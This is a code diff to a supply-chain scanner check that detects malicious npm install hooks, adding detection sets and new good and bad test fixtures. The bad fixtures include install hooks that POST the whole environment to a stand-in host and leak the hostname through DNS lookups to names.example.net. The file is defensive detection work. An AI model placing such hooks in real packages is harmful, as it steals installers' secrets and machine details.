@@ -1,9 +1,8 @@
 import type { RepositoryCheck } from '../../check.ts';
+import type { ActKind } from '../../facts/acts/act.ts';
+import { isInstallHook } from '../../facts/install-hooks.ts';
 import { dangerOf } from '../../knowledge/shell-danger.ts';
 
-/** Hooks that run on the machine of whoever installs the package. */
-const AT_INSTALL =
-  /^(?:npm (?:pre|post)?install|npm (?:pre|post)?prepare|gem install|cargo build|composer .*install.*)$/;
 /** A program written into the hook itself. */
 const INLINE_PROGRAM = /\b(?:node|python3?|ruby|perl)\s{1,3}-(?:e|c)\s{1,3}["'][^\n]{60,}/;
 /**
@@ -11,8 +10,19 @@ const INLINE_PROGRAM = /\b(?:node|python3?|ruby|perl)\s{1,3}-(?:e|c)\s{1,3}["'][
  * started by its bare name and could stand in the hook itself.
  */
 const HOUSEKEEPING =
-  /require\(\\?["'](?:node:)?(?:fs|path)\\?["']\)|\bprocess\.env\.(?:NODE_ENV|CI|HUSKY)\b|require\(\\?["'](?:node:)?child_process\\?["']\)\.(?:exec|spawn)(?:Sync)?\(\\?["'][\w@ -]{1,60}\\?["']/g;
+  /require\(\\?["'](?:node:)?(?:fs|path)\\?["']\)|\bprocess\.env\.[A-Z_]{2,40}\b|require\(\\?["'](?:node:)?child_process\\?["']\)\.(?:exec|spawn)(?:Sync)?\(\\?["'][\w@ -]{1,60}\\?["']/g;
 const INLINE_REACH = /\bhttps?\b|require\(\\?["']|\bexec|\benv\b|\batob\b|base64|\bsocket\b/i;
+
+/** Whom an installation talks to, and what it starts and leaves, is told of the package as a whole. */
+const FOR_THE_PACKAGE: ReadonlySet<ActKind> = new Set(['install-contact', 'install-command', 'install-write']);
+
+/** A program may have its reasons to do these; an installation has none. */
+const NEVER_AT_INSTALL: ReadonlySet<ActKind> = new Set([
+  'environment-sent',
+  'system-facts-sent',
+  'secret-file-sent',
+  'remote-control',
+]);
 
 export const check: RepositoryCheck = {
   id: 'supply-chain-install-script-malicious',
@@ -39,12 +49,28 @@ export const check: RepositoryCheck = {
         'package.json': '{"scripts": {«"postinstall": "node setup.js"»}}',
         'setup.js': "fetch('https://c.example.net', { method: 'POST', body: JSON.stringify(process.env) });\n",
       },
+      { 'package.json': '{"scripts": {«"preinstall": "nslookup `hostname`.names.example.net"»}}' },
+      {
+        'package.json': '{"scripts": {«"preinstall": "node update.js &"»}}',
+        'update.js': `
+          const dns = require('dns');
+          const name = \`\${require('os').hostname()}.names.example.net\`;
+          dns.lookup(name, () => {});`,
+      },
     ],
     good: [
       {
         'package.json': `{"scripts": {"prepare": "node -e \\"if (process.env.NODE_ENV !== 'production') require('child_process').execSync('husky', { stdio: 'inherit' })\\""}}`,
       },
       { 'package.json': '{"scripts": {"postinstall": "node-gyp rebuild"}}' },
+      {
+        'package.json': `{"scripts": {"prepare": "node -e \\"if (!process.env.RELEASING) { console.error('Releases are made by the workflow.'); process.exit(1); }\\""}}`,
+      },
+      {
+        'package.json': '{"scripts": {"postinstall": "node check.js", "start": "node ask.js"}}',
+        'check.js': "require('child_process').execFileSync('node', ['--version']);",
+        'ask.js': "fetch('https://api.acme.io/items');",
+      },
       {
         'package.json': `{"scripts": {"postinstall": "node -e \\"try { require('fs').chmodSync('./dist/index.js', '755') } catch (e) {}\\""}}`,
       },
@@ -56,9 +82,11 @@ export const check: RepositoryCheck = {
   },
 
   *find(repository) {
-    const acts = repository.notesOf('act').filter(({ confidence }) => confidence !== 'low');
-    for (const hook of repository.notesOf('hook')) {
-      if (!AT_INSTALL.test(hook.event)) continue;
+    const acts = [
+      ...repository.notesOf('act').filter(({ act }) => !FOR_THE_PACKAGE.has(act)),
+      ...repository.attacks.filter(({ checkId }) => checkId === 'rce-silent-spawn'),
+    ].filter(({ confidence }) => confidence !== 'low');
+    for (const hook of repository.notes.filter(isInstallHook)) {
       const danger = dangerOf(hook.command);
       const isInline = INLINE_PROGRAM.test(hook.command) && INLINE_REACH.test(hook.command.replace(HOUSEKEEPING, ''));
       if (danger !== undefined || isInline) {
@@ -70,12 +98,12 @@ export const check: RepositoryCheck = {
         continue;
       }
       const act = hook.target === undefined ? undefined : acts.find(({ at }) => at.file === hook.target);
-      if (act === undefined || act.act === 'install-contact') continue;
+      if (act === undefined) continue;
       yield {
         at: hook.at,
         message: `Installing runs ${hook.target ?? 'a script'}. ${act.message}`,
         trace: [{ at: act.at, note: act.message }],
-        confidence: act.confidence,
+        confidence: 'act' in act && NEVER_AT_INSTALL.has(act.act) ? 'high' : act.confidence,
       };
     }
   },
